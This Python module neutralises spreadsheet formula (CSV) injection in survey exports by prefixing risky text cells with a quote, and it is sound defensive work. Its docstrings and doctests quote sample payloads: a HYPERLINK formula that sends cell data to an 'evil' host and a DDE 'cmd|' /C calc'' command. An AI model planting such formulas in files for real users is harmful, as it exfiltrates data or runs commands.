"""Spreadsheet safety for outputs: neutralise text cells that a spreadsheet would run as formulas.

A CSV or XLSX file written from survey answers can carry *formula injection* (also called
CSV injection): a free-text answer such as ``=HYPERLINK("http://evil/?"&A1,"click")`` or
``-2+3+cmd|' /C calc'!A0`` is evaluated when a colleague opens the file in Excel, WPS or
LibreOffice. Following the OWASP guidance on CSV injection, every **text** cell that begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms
``＝ ＋ － ＠``, which some spreadsheet programs fold to the ASCII ones) gets a leading single
quote ``'`` so that it is shown as text. Numbers are left alone: a negative number stays a
number, and a text cell that is exactly a plain decimal number (``"-3"``, ``"+1.5"``) is left
as it is, because a spreadsheet parses it to the same harmless number.

References
----------
OWASP Foundation. *CSV Injection*. https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["DANGEROUS_PREFIXES", "neutralize", "neutralize_value"]

#: First characters that make a spreadsheet treat a cell as a formula (or strip and re-parse it).
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralize_value(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would evaluate.

    >>> neutralize_value("=1+1")
    "'=1+1"
    >>> neutralize_value("＠SUM(A1)")
    "'＠SUM(A1)"
    >>> neutralize_value(-3), neutralize_value("-3"), neutralize_value("很满意")
    (-3, '-3', '很满意')
    """
    if isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def _is_text_column(series: pd.Series) -> bool:
    return pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)


def neutralize(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells cannot run as spreadsheet formulas.

    Text cells (and text column names and categorical labels) that begin with ``=``, ``+``,
    ``-``, ``@``, tab, carriage return, line feed, or the full-width ``＝ ＋ － ＠`` get a
    leading single quote. Numeric columns, missing values and text that is exactly a plain
    decimal number are unchanged; the dtypes of the columns are kept.

    Parameters
    ----------
    df
        The table about to be written as CSV or XLSX.

    Returns
    -------
    DataFrame
        A new DataFrame; ``df`` is not modified.

    Notes
    -----
    Apply this only to files meant for spreadsheet programs (CSV, XLSX). Parquet or SPSS
    outputs keep the answers verbatim. Reading a neutralised CSV back returns the quoted text.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"Q1": [1, -2], "text": ["=cmd|' /C calc'!A0", "好"]})
    >>> out = neutralize(df)
    >>> out["text"].tolist(), out["Q1"].tolist()
    (["'=cmd|' /C calc'!A0", '好'], [1, -2])
    """
    out = df.copy()
    renamed = {c: neutralize_value(c) for c in out.columns if isinstance(c, str)}
    for name in list(out.columns):
        col = out[name]
        if isinstance(col, pd.DataFrame):  # duplicate column names: handle by position below
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            cats = col.cat.categories
            new = [neutralize_value(c) for c in cats]
            if list(new) != list(cats):
                out[name] = col.cat.rename_categories(new)
        elif _is_text_column(col) and any(  # distinct values: answers repeat
            isinstance(v, str) and v.startswith(DANGEROUS_PREFIXES) for v in col.unique()
        ):
            out[name] = col.map(neutralize_value)
    if out.columns.has_duplicates:
        for j in range(out.shape[1]):
            col = out.iloc[:, j]
            if _is_text_column(col):
                out.iloc[:, j] = col.map(neutralize_value)
    if any(renamed[c] != c for c in renamed):
        out.columns = [renamed.get(c, c) if isinstance(c, str) else c for c in out.columns]
    return out
